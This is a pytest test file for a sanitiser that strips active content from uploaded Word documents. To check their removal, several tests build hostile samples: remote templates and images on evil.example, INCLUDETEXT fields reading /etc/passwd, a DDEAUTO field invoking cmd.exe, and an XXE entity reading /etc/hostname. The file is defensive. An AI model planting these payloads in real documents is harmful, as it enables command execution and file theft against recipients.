"""Submitted Word documents: their words stay, whatever acts or reaches out goes."""

from __future__ import annotations

import contextlib
import io
import zipfile

import docx
import pytest
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import nsdecls, qn
from hypothesis import given, settings
from hypothesis import strategies as st

from toolkit import disarm
from toolkit.errors import TooLargeError, UnreadableError

REMOTE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def document(*texts: str) -> docx.document.Document:
    made = docx.Document()
    for text in texts:
        made.add_paragraph(text)
    return made


def saved(made: docx.document.Document, **parts: bytes) -> bytes:
    out = io.BytesIO()
    made.save(out)
    if parts:
        with zipfile.ZipFile(out, "a") as bundle:
            for name, content in parts.items():
                bundle.writestr(name.replace("__", "/").replace("_DOT_", "."), content)
    return out.getvalue()


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as bundle:
        return {name: bundle.read(name) for name in bundle.namelist()}


def field(paragraph, *pieces: str) -> None:
    for piece in pieces:
        run = paragraph.add_run()
        element = OxmlElement("w:instrText")
        element.set(qn("xml:space"), "preserve")
        element.text = piece
        run._r.append(element)


def test_words_stay():
    clean = disarm.word(saved(document("Between A and B", "Salary 10")))
    assert [p.text for p in docx.Document(io.BytesIO(clean)).paragraphs] == ["Between A and B", "Salary 10"]


def test_macros_and_embedded_objects_go():
    data = saved(
        document("x"), word__vbaProject_DOT_bin=b"M", word__embeddings__o_DOT_bin=b"O", word__activeX__a_DOT_xml=b"<a/>"
    )
    assert not [name for name in parts(disarm.word(data)) if "vba" in name or "embed" in name or "active" in name]


def test_relations_out_of_the_file_go():
    made = document("x")
    made.part.relate_to("https://evil.example/t.dotm", REMOTE + "attachedTemplate", is_external=True)
    made.part.relate_to("https://evil.example/p.png", REMOTE + "image", is_external=True)
    assert b"evil.example" not in b"".join(parts(disarm.word(saved(made))).values())


@pytest.mark.parametrize(
    "pieces",
    [
        ('INCLUDEPICTURE "https://evil.example/a.png"',),
        ('INCLUDETEXT "file:///etc/passwd"',),
        ("DDEAUTO c:\\\\windows\\\\cmd.exe",),
        ("INCL", 'UDETEXT "file:///etc/passwd"'),
        ('DATE \\@ "d MMMM yyyy"',),
    ],
)
def test_live_fields_go(pieces: tuple[str, ...]):
    made = document("x")
    field(made.paragraphs[0], *pieces)
    simple = parse_xml(f'<w:fldSimple {nsdecls("w")} w:instr="INCLUDETEXT x"><w:r><w:t>kept</w:t></w:r></w:fldSimple>')
    made.paragraphs[0]._p.append(simple)
    body = parts(disarm.word(saved(made)))["word/document.xml"]
    assert not any(word in body for word in (b"INCL", b"UDETEXT", b"DDE", b"evil", b"passwd", b"DATE"))
    assert b"kept" in body


@pytest.mark.parametrize("name", ["other/body.xml", "word/deep/er.xml", "media/picture.png", "word/BODY.XML"])
def test_live_fields_go_from_a_body_of_any_name(name: str):
    made = document("x")
    field(made.paragraphs[0], 'INCLUDETEXT "file:///etc/passwd"')
    body = parts(saved(made))["word/document.xml"]
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a") as bundle:
        bundle.writestr(name, body)
        bundle.writestr("utf16.dat", body.decode().replace("UTF-8", "UTF-16").encode("utf-16"))
        bundle.writestr("picture.svg", b"<!DOCTYPE svg><svg/>")
        bundle.writestr("picture.jpg", b"\xff\xd8\xff")
    clean = parts(disarm.word(out.getvalue()))
    assert b"<w:p>" in clean[name] and b"<w:p>" in clean["utf16.dat"]
    assert not [each for each, content in clean.items() if b"passwd" in content.replace(b"\0", b"")]
    assert (clean["picture.svg"], clean["picture.jpg"]) == (b"", b"\xff\xd8\xff")


@pytest.mark.parametrize("instruction", ["PAGE", " NUMPAGES  \\* MERGEFORMAT ", " FORMCHECKBOX "])
def test_page_numbers_are_still_computed(instruction: str):
    made = document("x")
    field(made.paragraphs[0], instruction)
    assert instruction.strip().encode() in parts(disarm.word(saved(made)))["word/document.xml"]


def test_the_look_of_an_embedded_object_stays_and_its_link_goes():
    made = document("Pay table:")
    shape = '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="https://evil.example">'
    shape += '<v:imagedata src="//evil"/></v:shape>'
    ole = '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Excel.Sheet.12"/>'
    made.paragraphs[0]._p.append(parse_xml(f"<w:r {nsdecls('w')}><w:object>{shape}{ole}</w:object></w:r>"))
    body = parts(disarm.word(saved(made)))["word/document.xml"]
    assert b"<w:pict>" in body and b"imagedata" in body
    assert b"OLEObject" not in body and b"evil" not in body


def test_a_form_letter_asks_no_database():
    merge = parse_xml(f'<w:mailMerge {nsdecls("w")}><w:connectString w:val="DSN=payroll"/></w:mailMerge>')
    made = document("x")
    made.settings.element.append(merge)
    assert b"payroll" in parts(saved(made))["word/settings.xml"]
    assert b"payroll" not in parts(disarm.word(saved(made)))["word/settings.xml"]


@pytest.mark.parametrize("data", [b"", b"no zip", b"PK\x03\x04broken", b"\xd0\xcf\x11\xe0" * 100])
def test_what_is_no_word_file_is_unreadable(data: bytes):
    with pytest.raises(UnreadableError):
        disarm.word(data)


def test_a_zip_that_is_another_kind_of_file():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        bundle.writestr("hello.txt", "x")
    with pytest.raises(UnreadableError):
        disarm.word(out.getvalue())


def test_a_bomb_is_refused(monkeypatch):
    monkeypatch.setattr(disarm, "_MOST_BYTES", 1000)
    with pytest.raises(TooLargeError):
        disarm.word(saved(document("x")))


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", "_rels/.rels", "[Content_Types].xml"])
def test_document_types_are_refused(part: str):
    data = saved(document("x"))
    body = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/hostname">]><d>&e;</d>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as bundle:
        for name, content in parts(data).items():
            bundle.writestr(name, body if name == part else content)
    with pytest.raises(UnreadableError):
        disarm.word(out.getvalue())


GOOD = saved(document("Between A and B"))


@settings(max_examples=60, deadline=None)
@given(st.integers(0, len(GOOD) - 1), st.binary(min_size=1, max_size=8))
def test_damage_is_an_error_of_ours_or_harmless(at: int, noise: bytes):
    data = bytearray(GOOD)
    data[at : at + len(noise)] = noise
    with contextlib.suppress(UnreadableError, TooLargeError):
        disarm.word(bytes(data))
